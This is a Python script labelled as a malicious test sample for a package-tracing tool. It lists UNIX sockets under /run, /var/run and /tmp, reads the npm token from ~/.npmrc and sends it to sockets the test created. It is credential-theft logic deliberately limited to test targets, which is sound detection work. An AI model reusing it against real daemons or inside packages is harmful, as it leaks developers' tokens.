# MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only through `pkgtrace run`.
#
# Looks for UNIX sockets under /run, /var/run and /tmp (host daemons listen
# there: D-Bus, databases, container runtimes) and writes the npm token
# (~/.npmrc) into them.
#
# It lists every socket it finds, but connects and writes only to sockets
# the test made: those named `pkgtrace-test-*`, the paths in marker.json
# (connected to even when the walk did not find them, so that the attempt is
# in the report) and the abstract socket named there. Host daemons are never
# sent anything. (Python, not node: node pads an abstract name with NULs to
# the full sun_path, which names another socket.)
import errno
import json
import os
import socket
import stat

here = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(here, "marker.json")) as f:
        cfg = json.load(f)
except (OSError, ValueError):
    cfg = {}

found = []


def walk(d, depth):
    try:
        names = os.listdir(d)
    except OSError:
        return
    for name in names:
        p = os.path.join(d, name)
        try:
            st = os.lstat(p)
        except OSError:
            continue
        if stat.S_ISSOCK(st.st_mode):
            found.append(p)
        elif stat.S_ISDIR(st.st_mode) and depth < 4:
            walk(p, depth + 1)


for root in ("/run", "/var/run", "/tmp"):
    walk(root, 0)
print(f"sockets found: {len(found)}")
for p in found:
    print(f"  {p}")

try:
    with open(os.path.expanduser("~/.npmrc"), "rb") as f:
        token = f.read()
except OSError:
    token = b"no token"

targets = [p for p in found if os.path.basename(p).startswith("pkgtrace-test-")]
targets += [p for p in cfg.get("sockets", []) if p not in targets]
if cfg.get("abstract"):
    targets.append("\0" + cfg["abstract"])
for p in targets:
    label = "@" + p[1:] if p.startswith("\0") else p
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(p)
        s.sendall(token)
        print(f"connect {label}: SENT the npm token")
    except OSError as e:
        print(f"connect {label}: {errno.errorcode.get(e.errno, e.errno) if e.errno else e}")
    finally:
        s.close()
